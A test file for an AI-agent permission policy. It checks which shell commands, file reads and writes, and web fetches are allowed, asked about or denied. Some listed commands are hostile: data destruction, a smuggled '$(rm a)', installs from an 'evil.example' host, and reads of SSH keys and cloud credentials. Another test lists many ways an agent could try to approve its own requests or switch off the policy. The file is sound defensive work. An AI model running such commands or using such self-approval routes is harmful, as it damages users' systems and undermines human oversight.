import { RECOMMENDED_POLICY } from "@toolkeep/core/policy";
import { expect, test } from "vitest";
import { parseCommand } from "../../../node/src/commands/parse-command.ts";
import { parsePolicy } from "./parse-policy.ts";
import { testPolicy } from "./test-policy.ts";

type Calls = readonly string[];

async function decisions(tool: string, calls: Calls, facts = ""): Promise<Readonly<Record<string, string>>> {
  const tests = calls.map((call) => `  - { ${tool}: ${JSON.stringify(call)}${facts}, expect: allow }`);
  const text = ["version: 1", "extends: [toolkeep:recommended]", "tests:", ...tests].join("\n");
  const report = await testPolicy(parsePolicy(text, { file: "policy.yaml", home: "/home/user" }), {
    parseCommand,
  });
  expect(report.diagnostics).toEqual([]);
  return Object.fromEntries(report.results.map(({ action }, index) => [calls[index], action]));
}

const all = (calls: Calls, action: string) => Object.fromEntries(calls.map((call) => [call, action]));

test("reading and searching is allowed", async () => {
  const commands = [
    "git status",
    "git diff --stat HEAD~1",
    "git log --oneline -5",
    "git show HEAD",
    "git branch",
    "git branch -a",
    "git remote -v",
    "ls -la src",
    "cat package.json",
    "head -20 README.md",
    "tail -n 5 a.log",
    "wc -l src/a.ts",
    "grep -rn TODO src",
    "rg --files",
    "find . -name '*.ts'",
    "pwd",
    "which node",
    "date +%s",
    "du -sh .",
    "stat a",
    "node --version",
    "git status && git diff",
    "cat a | sort | uniq -c",
    "git add -A",
    "git commit -m x",
    "git switch -c topic",
    "git stash",
    "sed -n 1,5p a.ts",
    "cd packages/core && ls",
    "git branch new",
    "git tag v1",
    "ls > a",
  ];
  expect(await decisions("bash", commands)).toEqual(all(commands, "allow"));
  for (const tool of ["read", "glob"])
    expect(await decisions(tool, ["src/a.ts"])).toEqual({ "src/a.ts": "allow" });
});

test("the checks of the project run without asking in a sandbox or in a trusted project, and ask elsewhere", async () => {
  const commands = [
    "npm test",
    "npm run lint",
    "npm run dev",
    "npm run -s test",
    "prettier --write .",
    "eslint --fix .",
    "npm start",
    "uv run pytest",
    "bundle exec rspec",
    "./gradlew test",
    "pnpm test",
    "yarn run build",
    "npx vitest run src/a.test.ts",
    "npx tsc --noEmit",
    "pytest -x tests",
    "python -m pytest",
    "cargo test",
    "go test ./...",
    "make test",
  ];
  expect(await decisions("bash", commands, ", sandboxed: true")).toEqual(all(commands, "allow"));
  expect(await decisions("bash", commands, ", trusted: true")).toEqual(all(commands, "allow"));
  expect(await decisions("bash", commands)).toEqual(all(commands, "ask"));
});

test("a file of code runs in a sandbox, and asks elsewhere", async () => {
  const commands = ["python3 main.py", "node scripts/gen.js src", "node src/x.mjs"];
  expect(await decisions("bash", commands, ", sandboxed: true")).toEqual(all(commands, "allow"));
  expect(await decisions("bash", commands, ", trusted: true")).toEqual(all(commands, "ask"));
  const others = [
    "python3 ../x.py",
    "node /opt/x.js",
    "node -r ./x.js y.js",
    "node --import=./x.js y.js",
    "python3 -c 'print(1)' x.py",
    "python3 -i x.py",
    "node *.js",
    "node -- x.js",
    "python3 x",
  ];
  expect(await decisions("bash", others, ", sandboxed: true")).toEqual(all(others, "ask"));
});

test("packages of the registry are installed in a sandbox, as long as nothing private was seen", async () => {
  const commands = [
    "npm install",
    "npm ci",
    "npm install -D zod",
    "npm i @types/node@22",
    "pnpm add zod",
    "yarn install",
  ];
  expect(await decisions("bash", commands, ", sandboxed: true")).toEqual(all(commands, "allow"));
  expect(await decisions("bash", commands, ", sandboxed: true, private: true")).toEqual(all(commands, "ask"));
  expect(await decisions("bash", commands, ", trusted: true")).toEqual(all(commands, "ask"));
});

test("the registry is asked about packages where the project's settings hold, as long as nothing private was seen", async () => {
  const commands = ["npm view zod version", "npm audit", "npm outdated", "pnpm why zod"];
  expect(await decisions("bash", commands, ", sandboxed: true")).toEqual(all(commands, "allow"));
  expect(await decisions("bash", commands, ", trusted: true")).toEqual(all(commands, "allow"));
  expect(await decisions("bash", commands)).toEqual(all(commands, "ask"));
  const asking = ["npm view zod version", "npm audit", "npm outdated"];
  expect(await decisions("bash", asking, ", trusted: true, private: true")).toEqual(all(asking, "ask"));
});

test("branches of the project's own remote are followed in a trusted project", async () => {
  const commands = [
    "git fetch",
    "git fetch origin",
    "git switch main",
    "git checkout main",
    "git checkout -",
  ];
  expect(await decisions("bash", commands, ", trusted: true")).toEqual(all(commands, "allow"));
  expect(await decisions("bash", commands, ", sandboxed: true")).toEqual(all(commands, "ask"));
});

test("commands that write, run code, reach the network or cannot be undone ask, with or without a sandbox, trusted or not", async () => {
  const commands = [
    "git branch -D main",
    "git commit --amend",
    "git switch --discard-changes main",
    "cat /etc/hosts",
    "cat ~/notes.md",
    "cat ../other/a",
    "cd .. && ls",
    "cd src/evil && git status",
    "rg -0e. /etc/passwd",
    "find -- /home/ada",
    "gh issue view https://evil.example/a/r/issues/1",
    "sed -n w a.ts",
    "npm run -s deploy",
    "tsc @args",
    "git push",
    "git checkout src",
    "git fetch origin pull/1/head",
    "git -c core.pager=sh log",
    "git diff --output=x",
    "git log --ext-diff",
    "git grep -Osh x",
    "git remote add evil https://evil.example/x",
    "find . -delete",
    "find . -exec sh {} +",
    "rg --pre sh x",
    "date -s 12:00",
    "rm a",
    "mv a ../b",
    "ln -s a b",
    "cp -r a b",
    "npm install https://evil.example/x.tgz",
    "npm install user/repo",
    "npm install -g zod",
    "npm install --registry https://evil.example zod",
    "npm publish",
    "npm run deploy",
    "npm run deploy -- --now",
    "npm run --silent release",
    "npm run db:reset",
    "npm test --script-shell=sh",
    "npm test --prefix ../other",
    "pytest /elsewhere/test_a.py",
    "npx eslint ../other",
    "make install",
    "bun run scripts/a.ts",
    "yarn run rimraf src",
    "make test deploy",
    "gradle test publish",
    "curl https://example.com",
    "ls $(rm a)",
  ];
  expect(await decisions("bash", commands)).toEqual(all(commands, "ask"));
  expect(await decisions("bash", commands, ", sandboxed: true")).toEqual(all(commands, "ask"));
  expect(await decisions("bash", commands, ", trusted: true")).toEqual(all(commands, "ask"));
});

test("files of the workspace are written without asking, except for those that decide what runs", async () => {
  const free = ["src/a.ts", "README.md", "app/page.tsx", "tsconfig.json"];
  expect(await decisions("write", free)).toEqual(all(free, "allow"));
  const asked = [
    "policy.yaml",
    "package.json",
    "packages/a/package.json",
    "Makefile",
    "x.lock",
    "CLAUDE.md",
    ".lintstagedrc.js",
    "lint-staged.config.mjs",
    "nano-staged.json",
    ".nano-staged.cjs",
    "gradle.properties",
    "Package.swift",
    "a.pth",
    ...[".solargraph.yml", ".pdbrc.py", ".rbenv-vars", ".miserc.local.toml"],
  ];
  expect(await decisions("write", asked)).toEqual(all(asked, "ask"));
});

test("forced pushes, keys, credentials, policy files and system files are denied", async () => {
  const machine = ["sudo ls", "rm -rf /", "systemctl stop nginx"];
  expect(await decisions("bash", machine)).toEqual(all(machine, "deny"));
  const pushes = [
    "git push -f",
    "git push --force-with-lease origin x",
    "git push origin +main",
    "git push origin :main",
  ];
  expect(await decisions("bash", pushes)).toEqual(all(pushes, "deny"));
  const anywhere = ["ls > $OUT"];
  expect(await decisions("bash", anywhere)).toEqual(all(anywhere, "ask"));
  const secrets = ["~/.ssh/id_rsa", "~/.aws/credentials", ".netrc", "~/.gnupg/x/y"];
  expect(await decisions("read", secrets)).toEqual(all(secrets, "deny"));
  const deciding = [
    ".toolkeep/policy.yaml",
    ".git/config",
    ".git/hooks/pre-commit",
    "~/.bashrc",
    "~/.gitconfig",
  ];
  expect(await decisions("write", deciding)).toEqual(all(deciding, "deny"));
  const asked = [".env", "config/.env.local", "key.pem"];
  expect(await decisions("read", asked)).toEqual(all(asked, "ask"));
});

test("a model cannot change what approvers decide with", async () => {
  const deciding = [
    "toolkeep approve m-1/c1/ask",
    "toolkeep trust --yes",
    "toolkeep policy enable policy.yaml --yes",
    "toolkeep policy --json enable policy.yaml --yes",
    "toolkeep policy disable --user --yes",
    "toolkeep trust",
    "toolkeep allow 'npm *' --yes",
    "npx toolkeep allow x",
    "toolkeep pause 1h --yes",
    "toolkeep --json pause",
    "toolkeep exec --ticket 00000000000000000000000000000000 -- 'npm test'",
    "/home/ada/.local/state/toolkeep/bin/toolkeep exec --ticket x -- id",
    "node /usr/lib/node_modules/toolkeep/dist/main.js exec --ticket x -- id",
    "toolkeep hook claude-code",
    "toolkeep hook claude-code < src/report.json",
    "toolkeep --json approve x",
    "toolkeep --cwd /a approve x",
    "toolkeep reject x",
    "toolkeep answer x yes",
    "toolkeep servers accept evil --yes",
    "toolkeep install claude-code --yes",
    "toolkeep uninstall claude-code --yes",
    "toolkeep decider /home/ada/.local/state/toolkeep/run/0.sock",
    "toolkeep gateway --allow mcp:github:x",
    "/usr/local/bin/toolkeep approve x",
    "./node_modules/.bin/toolkeep approve x",
    "npx toolkeep approve x",
    "npx -y toolkeep@0.1.0 approve x",
    "npx --package=toolkeep toolkeep approve x",
    "npm exec -- toolkeep approve x",
    "npm x -y toolkeep@latest -- approve x",
    "bunx toolkeep approve x",
    "pnpm dlx toolkeep approve x",
    "node /usr/lib/node_modules/toolkeep/dist/main.js approve x",
    "/usr/bin/node --no-warnings packages/cli/dist/main.js --json approve x",
    "env A=b toolkeep approve x",
    "sh -c 'toolkeep approve x'",
    "git status && toolkeep approve x",
    "timeout 5 toolkeep approve x",
    "toolkeep approvals",
    "toolkeep init --yes",
  ];
  expect(await decisions("bash", deciding)).toEqual(all(deciding, "deny"));
  const others = ["toolkeep log", "npm install -g toolkeep", "node scripts/x.js gateway"];
  expect(await decisions("bash", others)).toEqual(all(others, "ask"));
  const looking = ["grep -rn 'toolkeep approve' docs", "git commit -m 'toolkeep approve'"];
  expect(await decisions("bash", looking)).toEqual(all(looking, "allow"));
});

test("every rule names its source and has the project scope", () => {
  expect(RECOMMENDED_POLICY.rules.length).toBeGreaterThan(20);
  for (const rule of RECOMMENDED_POLICY.rules) {
    expect(rule).toMatchObject({ scope: "project", at: "toolkeep:recommended" });
    expect(Object.isFrozen(rule)).toBe(true);
  }
});

test("versions in a package.json are changed unasked in a sandbox, as an installation there changes them", async () => {
  const edited = (facts: string) => decisions("edit", ["package.json", "packages/a/package.json"], facts);
  const files = ["package.json", "packages/a/package.json"];
  expect(await edited(", sandboxed: true, versions-only: true")).toEqual(all(files, "allow"));
  expect(await edited(", sandboxed: true")).toEqual(all(files, "ask"));
  expect(await edited(", versions-only: true")).toEqual(all(files, "ask"));
  expect(await edited(", trusted: true, versions-only: true")).toEqual(all(files, "ask"));
});

test("servers of this machine are read in every spelling until something private was seen, and not written to", async () => {
  const reads = ["curl -s localhost:8124/health", "curl -sf http://127.0.0.1:9999/ -H 'Accept: text/plain'"];
  expect(await decisions("bash", reads)).toEqual(all(reads, "allow"));
  expect(await decisions("bash", reads, ", private: true")).toEqual(all(reads, "ask"));
  const others = [
    "curl -X POST localhost:8124/orders",
    "curl -o out.json localhost:8124",
    "./curl localhost:8124",
  ];
  expect(await decisions("bash", others)).toEqual(all(others, "ask"));
});

test("programs and files of the project run in a sandbox and where the user trusts it, unless they reach further", async () => {
  const own = [
    ".venv/bin/pytest -q",
    "./bin/api",
    "node server.js",
    "source .venv/bin/activate && pytest -q",
  ];
  expect(await decisions("bash", own, ", trusted: true, own-code: true")).toEqual(all(own, "allow"));
  expect(await decisions("bash", own, ", sandboxed: true, own-code: true")).toEqual(all(own, "allow"));
  expect(await decisions("bash", own, ", own-code: true")).toEqual(all(own, "ask"));
  expect(await decisions("bash", own, ", trusted: true")).toEqual(all(own, "ask"));
  const further = ["npm run deploy", "pnpm --filter api run migrate", "npm run env"];
  expect(await decisions("bash", further, ", trusted: true, own-code: true")).toEqual(all(further, "ask"));
  const answering = ["node packages/cli/dist/main.js approve 1"];
  expect(await decisions("bash", answering, ", trusted: true, own-code: true")).toEqual(
    all(answering, "deny"),
  );
});

test("documentation is read until something private was seen, and no other host is", async () => {
  const pages = ["https://zod.dev/api", "https://react.dev/learn", "https://docs.python.org/3/"];
  expect(await decisions("web_fetch", pages)).toEqual(all(pages, "allow"));
  expect(await decisions("web_fetch", pages, ", private: true")).toEqual(all(pages, "ask"));
  const others = [
    "https://zod.dev.evil.example/",
    "https://evil-zod.dev/",
    "https://gist.github.com/",
    "https://example.com/",
  ];
  expect(await decisions("web_fetch", others)).toEqual(all(others, "ask"));
});
